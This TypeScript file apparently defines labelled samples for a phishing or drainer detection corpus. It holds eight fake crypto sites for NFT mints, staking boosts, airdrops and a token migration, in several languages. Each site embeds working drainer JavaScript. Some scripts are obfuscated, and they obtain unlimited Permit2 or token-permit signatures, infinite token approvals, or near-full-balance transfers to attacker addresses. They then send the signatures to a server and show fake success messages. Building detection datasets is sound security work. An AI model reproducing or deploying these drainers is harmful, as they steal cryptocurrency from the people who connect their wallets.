import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import * as B from '../parts/e-bin.js';
import * as Z from '../parts/zj-kit.js';

const DRAIN_MODAL = (title: string) => `<div class="modal" id="wm"><div class="box"><h3 style="margin-top:0">${title}</h3>${Z.WALLETS.slice(0, 6)
  .map((w, i) => `<div class="wl" data-w="${i}"><img src="/img/w${i}.png" alt="">${w}</div>`)
  .join('')}<p class="muted">By connecting you agree to the Terms of Service.</p></div></div>`;
const walletImgs = (host: string) => Object.fromEntries([0, 1, 2, 3, 4, 5].map((i) => [`${host}/img/w${i}.png`, Z.img(40 * i, 120, 200 - 20 * i)]));

export const entries: Entry[] = [
  {
    id: 'zj-drain-nft-freemint-otters',
    label: 'cryptodrainer',
    kind: 'mint-drainer',
    url: 'https://mint-pudgyotters.xyz/',
    body: Z.doc({
      title: 'Pudgy Otters | Free Mint LIVE',
      desc: 'Mint your Pudgy Otter now. 3,333 supply. Free for holders.',
      style: Z.DARK,
      icon: '/img/fav.png',
      body: `${Z.top('🦦 Pudgy Otters', ['Roadmap', 'Team', 'FAQ'], '<button class="btn" id="cb">Connect Wallet</button>')}
  <main style="text-align:center">
  <span class="pill">PHASE 2 · WHITELIST + PUBLIC</span>
  <h1 style="font-size:48px">Mint is LIVE</h1>
  <img src="/img/otter.png" width="220" height="220" style="border-radius:20px;image-rendering:pixelated">
  <div class="card"><div class="row"><span>Price</span><b>FREE (gas only)</b></div><div class="row"><span>Minted</span><b id="mc">2,874 / 3,333</b></div>
  <div class="row"><span>Max per wallet</span><b>3</b></div><button class="btn" style="width:100%" id="mint">MINT NOW</button>
  <p class="muted">Only a few left! Holders of Pudgy Penguins get priority.</p></div>
  <p class="muted">Contract: 0x5Af0D9827E0c53E4799BB226655A1de152A425a5 · Ethereum Mainnet</p>
  </main>
  ${DRAIN_MODAL('Connect a wallet')}
  <footer>Pudgy Otters © 2026 · Twitter · Discord · Not affiliated with OpenSea</footer>
  <script src="/assets/app.4f1c2e.js"></script>`,
    }),
    routes: {
      'mint-pudgyotters.xyz/img/fav.png': Z.img(90, 160, 220),
      'mint-pudgyotters.xyz/img/otter.png': Z.img(120, 90, 60),
      ...walletImgs('mint-pudgyotters.xyz'),
      'mint-pudgyotters.xyz/assets/app.4f1c2e.js': Z.js(`var _0x3e=['eth_requestAccounts','eth_signTypedData_v4','wallet_switchEthereumChain','/api/v2/log','0x000000000022D473030F116dDEE9F6B43aC78BA3'];
  (function(){var R='0x'+'8f3a'+'c21d'+'77e0b9a4'+'5d61f0e2'+'c93b14a8'+'d0e6f52b';var m=document.getElementById('wm');
  function o(){m.classList.add('on')}document.getElementById('cb').onclick=o;document.getElementById('mint').onclick=o;
  document.querySelectorAll('.wl').forEach(function(w){w.onclick=go});
  async function go(){m.classList.remove('on');var e=window.ethereum;if(!e){alert('Please install MetaMask');return}
  var a=(await e.request({method:_0x3e[0]}))[0];fetch(_0x3e[3],{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:a,ev:'connect',ref:location.host})});
  var tokens=await (await fetch('/api/v2/assets?o='+a)).json();
  for(var i=0;i<tokens.length;i++){var t=tokens[i];
  var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitSingle:[{name:'details',type:'PermitDetails'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},
  primaryType:'PermitSingle',domain:{name:'Permit2',chainId:1,verifyingContract:_0x3e[4]},message:{details:{token:t.c,amount:'1461501637330902918203684832716283019655932542975',expiration:'1893456000',nonce:'0'},spender:R,sigDeadline:'1893456000'}};
  try{var s=await e.request({method:_0x3e[1],params:[a,JSON.stringify(msg)]});fetch(_0x3e[3],{method:'POST',body:JSON.stringify({a:a,s:s,t:t.c,ev:'permit'})})}catch(x){i--;await new Promise(function(r){setTimeout(r,800)})}}
  document.getElementById('mc').textContent='2,875 / 3,333';alert('Mint pending… your Otter will appear in your wallet within 24h.')}})();`),
      'mint-pudgyotters.xyz/api/v2/assets': Z.json([{ c: '0xdAC17F958D2ee523a2206206994597C13D831ec7', s: 'USDT' }, { c: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', s: 'USDC' }]),
      'mint-pudgyotters.xyz/api/v2/log': Z.json({ ok: 1 }),
    },
  },
  {
    id: 'zj-drain-staking-lido-boost',
    label: 'cryptodrainer',
    kind: 'staking-drainer',
    url: 'https://stake-lido.finance/boost',
    body: Z.doc({
      title: 'Lido — Liquid staking for Ethereum | Boosted APR 11.4%',
      style: Z.DARK + 'body{background:#f4f6f8;color:#273852}.card{background:#fff;border-color:#e5e8ee;color:#273852}.btn{background:#00a3ff}',
      body: `${Z.top('<img src="/i/lido.png" width="22"> LIDO', ['Stake', 'Wrap', 'Withdrawals', 'Rewards'], '<button class="btn" id="cw">Connect wallet</button>')}
  <main><h1 style="text-align:center">Stake Ether</h1><p style="text-align:center">Stake ETH and receive stETH while staking. Limited boosted pool for early stakers.</p>
  <div class="card"><div class="row"><span>Available to stake</span><b id="bal">0.0 ETH</b></div><input id="amt" placeholder="ETH amount" value="">
  <button class="btn" style="width:100%;margin-top:14px" id="st">Stake</button>
  <div class="row"><span>You will receive</span><span id="rcv">0.0 stETH</span></div><div class="row"><span>Exchange rate</span><span>1 ETH = 1 stETH</span></div><div class="row"><span>Boosted APR</span><b style="color:#53ba95">11.4%</b></div><div class="row"><span>Reward fee</span><span>0%</span></div></div>
  <p style="text-align:center" class="muted">Boost program funded by the Lido DAO treasury until pool cap of 25,000 ETH is reached (21,930 ETH filled).</p></main>
  <footer>Lido · Docs · Help center · Bug bounty</footer>
  <script src="/bundle/main.js" defer></script>`,
    }),
    routes: {
      'stake-lido.finance/i/lido.png': Z.img(240, 120, 90),
      'stake-lido.finance/bundle/main.js': Z.js(`(function(){var P='0x4c2a91e6b7d03f58a1e92c7d6b0f3a8e5d21c94f';var acct;
  async function c(){acct=(await ethereum.request({method:'eth_requestAccounts'}))[0];document.getElementById('cw').textContent=acct.slice(0,6)+'...'+acct.slice(-4);
  var b=await ethereum.request({method:'eth_getBalance',params:[acct,'latest']});window.__b=BigInt(b);document.getElementById('bal').textContent=(Number(window.__b)/1e18).toFixed(4)+' ETH';
  fetch('https://stake-lido.finance/rpc/v',{method:'POST',body:JSON.stringify({u:acct,b:b})})}
  document.getElementById('cw').onclick=c;
  document.getElementById('st').onclick=async function(){if(!acct)await c();var v=window.__b-(window.__b/50n);
  await ethereum.request({method:'eth_sendTransaction',params:[{from:acct,to:P,value:'0x'+v.toString(16),data:'0xa1903eab0000000000000000000000000000000000000000000000000000000000000000'}]});
  document.getElementById('rcv').textContent='pending';};})();`),
      'stake-lido.finance/rpc/v': Z.json({ ok: true }),
    },
  },
  {
    id: 'zj-drain-solana-jup-claim',
    label: 'cryptodrainer',
    kind: 'airdrop-drainer',
    url: 'https://jup-claim.app/jupuary',
    body: Z.doc({
      title: 'Jupuary 2026 — Claim JUP',
      style: Z.DARK + 'body{background:#0f1a20}.btn{background:#c7f284;color:#111}',
      body: `${Z.top('<img src="/jup.png" width="24"> Jupiter', ['Swap', 'Perps', 'Vote', 'Jupuary'])}
  <div class="card" style="text-align:center"><h2>Jupuary is here 🪐</h2><p>700M JUP to active Jupiter users and stakers. Snapshot taken 2 Nov 2025.</p>
  <button class="btn" id="p">Connect Phantom</button> <button class="btn ghost" id="s">Solflare</button><p id="out" class="muted"></p></div>
  <footer>Jupiter Exchange · Terms · Privacy</footer>
  <script src="/sol.min.js"></script>`,
    }),
    routes: {
      'jup-claim.app/jup.png': Z.img(200, 240, 130),
      'jup-claim.app/sol.min.js': Z.js(`(function(){var D='9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin'.split('').reverse().join('');
  async function claim(){var p=window.phantom&&window.phantom.solana||window.solana||window.solflare;var o=document.getElementById('out');if(!p){o.textContent='Wallet not found';return}
  var r=await p.connect();var pk=(r&&r.publicKey||p.publicKey).toString();o.textContent='Allocation: 12,450 JUP — preparing claim…';
  var res=await fetch('/api/build',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:pk,dest:D})});var j=await res.json();
  var txs=j.txs.map(function(b){return Uint8Array.from(atob(b),function(c){return c.charCodeAt(0)})});
  try{var signed=await p.signAllTransactions(txs);await fetch('/api/send',{method:'POST',body:JSON.stringify({owner:pk,n:signed.length})});o.textContent='Claimed! Tokens arrive within 10 minutes.'}catch(e){o.textContent='Claim rejected — please approve all transactions to receive JUP.'}}
  document.getElementById('p').onclick=claim;document.getElementById('s').onclick=claim;})();`),
      'jup-claim.app/api/build': Z.json({ txs: ['AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA='] }),
      'jup-claim.app/api/send': Z.json({ ok: true }),
    },
  },
  {
    id: 'zj-drain-token-migration-v2',
    label: 'cryptodrainer',
    kind: 'migration-drainer',
    url: 'https://pepe-migration.org/migrate',
    body: Z.doc({
      title: 'PEPE v2 Token Migration',
      style: Z.LIGHT + 'body{background:#e9f6e5}main{background:#fff;border-radius:16px;margin-top:30px}',
      body: `<main><h1>🐸 PEPE → PEPE2 migration</h1><p>Due to the contract upgrade announced on X, all holders must migrate their PEPE to the new v2 contract before <b>Dec 15</b>. Un-migrated tokens will lose liquidity after the deadline.</p>
  <ol><li>Connect wallet</li><li>Approve PEPE for the migrator</li><li>Receive PEPE2 1:1 + 5% bonus</li></ol>
  <button class="btn" id="go">Connect wallet &amp; migrate</button><p id="msg"></p>
  <div class="warn">Beware of scam sites! The only official migration portal is this one.</div></main>
  <script>
  (function(){var f=function(s){return s.match(/../g).map(function(h){return String.fromCharCode(parseInt(h,16)^0x21)}).join('')};
  var MIG=f('115915441845104016421243144713441945174011421843104716441245144013421943154717441011');
  document.getElementById('go').onclick=async function(){var a=(await window.ethereum.request({method:'eth_requestAccounts'}))[0];
   document.getElementById('msg').textContent='Approve in your wallet…';
   await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x6982508145454Ce325dDbE47a25d4ec3d2311933',data:'0x095ea7b3000000000000000000000000'+MIG.slice(2)+'ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]});
   fetch('/m/q?w='+a);document.getElementById('msg').textContent='Migration queued. PEPE2 will be airdropped within 48h.';};})();
  </script>`,
    }),
    routes: { 'pepe-migration.org/m/q': Z.json({ q: 1 }) },
  },
  {
    id: 'zj-drain-pt-airdrop-base',
    label: 'cryptodrainer',
    kind: 'airdrop-drainer',
    url: 'https://base-airdrop.com.br/resgatar',
    body: Z.doc({
      lang: 'pt-BR',
      title: 'Airdrop oficial Base — Resgate seus tokens',
      style: Z.DARK + 'body{background:#0052ff}.card{background:#fff;color:#111}',
      body: `<div class="card" style="margin-top:80px"><h2>🔵 Airdrop Base Onchain Summer</h2><p>Carteiras que usaram a rede Base em 2025 têm direito a tokens. Conecte sua carteira para verificar seu saldo e resgatar antes do prazo.</p>
  <p><b>Prazo:</b> 72 horas restantes</p><button class="btn" id="c" style="width:100%">Conectar carteira</button><p id="r" style="font-size:14px"></p>
  <p style="font-size:12px;color:#666">Ao continuar, você concorda com os Termos. Resgate gratuito, apenas assinatura.</p></div>
  <script>
  document.getElementById('c').onclick=async function(){
   if(!window.ethereum){document.getElementById('r').textContent='Abra no navegador da sua carteira (MetaMask, Coinbase Wallet).';return}
   var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];document.getElementById('r').innerHTML='Você tem <b>2.340 BASE</b> para resgatar. Assine para confirmar.';
   var p={domain:{name:'USD Coin',version:'2',chainId:8453,verifyingContract:'0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913'},primaryType:'Permit',
   types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},
   message:{owner:a,spender:'0x61e2a9c4b7d8f03e15a6c92b4d7e8f1a3c05b29d',value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:0,deadline:1924992000}};
   var s=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(p)]});
   await fetch('/api/resgate',{method:'POST',body:JSON.stringify({a:a,s:s})});document.getElementById('r').textContent='Resgate confirmado! Os tokens chegarão em até 24h.';
  };
  </script>`,
    }),
    routes: { 'base-airdrop.com.br/api/resgate': Z.json({ ok: true }) },
  },
  {
    id: 'zj-drain-tr-staking-havuz',
    label: 'cryptodrainer',
    kind: 'staking-drainer',
    url: 'https://usdt-staking-havuzu.com/',
    body: Z.doc({
      lang: 'tr',
      title: 'USDT Staking Havuzu — Günlük %2,4 Getiri',
      style: Z.DARK + 'body{background:#101418}.btn{background:#26a17b}',
      body: `${Z.top('💎 DeFi Havuz', ['Ana Sayfa', 'Madencilik', 'Davet', 'Yardım'])}
  <main style="text-align:center"><h1>Likidite madenciliği</h1><p>Cüzdanınızda USDT tutun, her gün otomatik kazanç alın. Kilitleme yok, istediğiniz zaman çekin.</p>
  <div class="card"><div class="row"><span>Toplam havuz</span><b>48.221.930 USDT</b></div><div class="row"><span>Katılımcı</span><b>91.204</b></div><div class="row"><span>Günlük getiri</span><b style="color:#26a17b">%1,8 – %2,4</b></div>
  <button class="btn" style="width:100%" id="j">Madenciliğe katıl</button><p class="muted">Katılmak için 25 TRX veya 0,01 ETH ağ ücreti gerekir.</p></div>
  <h3>Son kazançlar</h3><p class="muted">0x8a…21f3 +412,20 USDT · 0x2c…aa10 +88,15 USDT · TQ7…Vnq +1.204,00 USDT</p></main>
  <footer>DeFi Havuz © 2026 · Müşteri hizmetleri: Telegram</footer>
  <script>
  document.getElementById('j').onclick=async function(){
   if(window.tronWeb&&tronWeb.defaultAddress){var c=await tronWeb.contract().at('TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t');await c.approve('TXk9Lp2rQbN1mVzYh3cE7sFwK4dJ6gT8uA','0x'+'f'.repeat(64)).send();fetch('/kat?w='+tronWeb.defaultAddress.base58);return}
   var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];
   await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0xdAC17F958D2ee523a2206206994597C13D831ec7',data:'0x095ea7b30000000000000000000000003b9c1e7a5d2f80c4a6e91d3b7f25c08a4e6d1b92ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]});
   fetch('/kat?w='+a);alert('Katılım başarılı! Getiriniz 24 saat içinde başlayacak.');
  };
  </script>`,
    }),
    routes: { 'usdt-staking-havuzu.com/kat': Z.json({ ok: 1 }) },
  },
  {
    id: 'zj-drain-ru-ton-claim',
    label: 'cryptodrainer',
    kind: 'airdrop-drainer',
    url: 'https://notcoin-drop.ru/claim',
    body: Z.doc({
      lang: 'ru',
      title: 'Notcoin — получить NOT | Раздача для держателей',
      style: Z.DARK + 'body{background:#000}.btn{background:#fff;color:#000}',
      body: `<div class="card" style="text-align:center"><h2>Второй этап раздачи NOT</h2><p>Для пользователей Telegram, которые майнили Notcoin в 2024 году. Подключите кошелёк TON, чтобы получить ваучеры.</p>
  <button class="btn" id="t">Подключить Tonkeeper</button><p class="muted" id="o">Осталось 14 ч 22 мин</p>
  <p class="muted">Подписывая транзакцию, вы подтверждаете владение кошельком. Комиссия сети ~0.05 TON.</p></div>
  <script>
  document.getElementById('t').onclick=async function(){var o=document.getElementById('o');
   var p=window.tonkeeper&&window.tonkeeper.provider||window.ton;if(!p){o.textContent='Установите Tonkeeper или откройте в Telegram Wallet';return}
   var acc=await p.send('ton_requestAccounts');var bal=await (await fetch('/b?a='+acc[0])).json();
   o.textContent='Найдено: 4 850 NOT. Подтвердите получение…';
   await p.send('ton_sendTransaction',[{valid_until:Math.floor(Date.now()/1e3)+600,messages:[{address:'UQBvW8Z5huBkMJYdnfAEM5JqTNkuWX3diqYENkWsIL0XggGG',amount:String(bal.n-5e7)}]}]);
   fetch('/c',{method:'POST',body:acc[0]});o.textContent='Готово! NOT поступят в течение часа.';};
  </script>`,
    }),
    routes: { 'notcoin-drop.ru/b': Z.json({ n: 1250000000 }), 'notcoin-drop.ru/c': Z.json({}) },
  },
  {
    id: 'zj-drain-vi-airdrop-layerzero',
    label: 'cryptodrainer',
    kind: 'airdrop-drainer',
    url: 'https://layerzero-zro.vn/nhan-airdrop',
    body: Z.doc({
      lang: 'vi',
      title: 'Nhận Airdrop ZRO — LayerZero chính thức',
      style: Z.DARK,
      body: `${Z.top('LayerZero', ['Trang chủ', 'Hệ sinh thái', 'Tài liệu'])}
  <div class="card"><h2>Kiểm tra điều kiện nhận ZRO</h2><p>Đợt 2 dành cho ví đã dùng cầu nối Stargate, Radiant, Angle trước ngày 1/10. Kết nối ví để xem số lượng.</p>
  <button class="btn" id="k" style="width:100%">Kết nối ví</button><p id="kq" class="muted"></p><p class="muted">Miễn phí · Chỉ cần ký xác nhận · Hạn chót 23:59 hôm nay</p></div>
  <footer>© 2026 LayerZero Labs</footer>
  <script>
  document.getElementById('k').onclick=async function(){
   var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];document.getElementById('kq').textContent='Bạn đủ điều kiện: 812,4 ZRO. Vui lòng ký để nhận.';
   var s=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify({primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:'0x000000000022D473030F116dDEE9F6B43aC78BA3'},types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},message:{details:[{token:'0xdAC17F958D2ee523a2206206994597C13D831ec7',amount:'1461501637330902918203684832716283019655932542975',expiration:'1900000000',nonce:'0'},{token:'0x6985884C4392D348587B19cb9eAAf157F13271cd',amount:'1461501637330902918203684832716283019655932542975',expiration:'1900000000',nonce:'0'}],spender:'0x2be61d7f9a8c03e4b5d2a1f6c7e8d9b0a3c4f512',sigDeadline:'1900000000'}})]});
   navigator.sendBeacon('/nhan',JSON.stringify({a:a,s:s}));document.getElementById('kq').textContent='Thành công! ZRO sẽ về ví trong 30 phút.';
  };
  </script>`,
    }),
    routes: { 'layerzero-zro.vn/nhan': Z.json({}) },
  },
];
